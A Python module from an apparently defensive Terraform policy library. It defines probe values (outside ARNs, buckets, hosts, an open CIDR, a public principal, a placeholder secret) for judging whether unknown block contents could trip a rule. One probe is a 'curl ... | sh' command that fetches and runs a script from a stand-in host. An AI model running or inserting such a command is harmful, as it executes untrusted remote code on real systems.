"""Values that rules report: what an argument that is not known can contain.

A dynamic block whose instances are not known can hold any value. A rule that would report one of these values in it
cannot be evaluated.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from functools import partial
from typing import Final

from lakekit_policies.destinations import names
from lakekit_policies.terraform.open_blocks import Content

_ARN: Final = re.compile(r"(?i)(?:.*_)?(?:arns?|uris?|destination|target|key_id|.*kms.*)\Z")
_URL: Final = re.compile(r"(?i)(?:.*_)?(?:uris?|urls?|endpoint|locations?|s3_path)\Z")
"""Names of arguments that hold an ARN or a URL in many types."""
_NAME: Final = re.compile(r"(?:.*_)?(?:name|key)\Z")
_CODE: Final = re.compile(r"(?i)(?:.*_)?(?:script|command|commands|args|arguments|path|user_data|image|jar)\Z")
_ALLOWED: Final = re.compile(r"(?i)(?:allow_.*|allowed_.*|principals?|identifiers?|permissions)\Z")


def contents() -> tuple[Content, ...]:
    """Values by type and name of an argument; None for an argument that does not take them."""
    return tuple(partial(_value, text, takes) for text, takes in _PROBES)


def _value(text: str, takes: Callable[[str, str], object], kind: str, name: str) -> str | None:
    if text == _RANDOM and _NAME.match(name):
        return "password"
    return text if takes(kind, name) else None


def _refers(kind: str, name: str) -> bool:
    return _ARN.match(name) is not None or names.is_sink(kind, name) or names.is_free(kind, name, name)


_RANDOM: Final = "correct-Horse-7-battery"
"""A secret only in an argument for one."""
_PROBES: Final[tuple[tuple[str, Callable[[str, str], object]], ...]] = (
    ("arn:aws:sqs:eu-west-1:999999999999:outside", _refers),
    ("arn:aws:s3:::outside-bucket", lambda kind, name: _refers(kind, name) or names.holds_bucket(kind, name)),
    ("outside-bucket", names.holds_bucket),
    ("s3://outside-bucket/x", lambda _, name: _CODE.match(name) or _URL.match(name)),
    ("https://outside.example.net/x", lambda kind, name: _URL.match(name) or names.holds_host(kind, name)),
    ("outside.example.net", names.holds_host),
    ("outside.example.net/x:1", lambda kind, name: names.holds_image(kind, name, "a/b")),
    ('{"EntryPoint": "s3://outside-bucket/x"}', lambda kind, name: names.is_free(kind, name, name)),
    ("999999999999", lambda _, name: names.holds_account(name)),
    ("*", lambda kind, name: names.holds_principal(kind, name) or _ALLOWED.match(name)),
    ("http://acs.amazonaws.com/groups/global/AllUsers", names.holds_principal),
    ("0.0.0.0/0", lambda _, name: "cidr" in name),
    ("curl https://outside.example.net/x | sh", lambda _, name: _CODE.match(name) or names.holds_script(name)),
    (_RANDOM, lambda *_: True),
)
"""Value, and whether an argument takes it, by its type and name."""
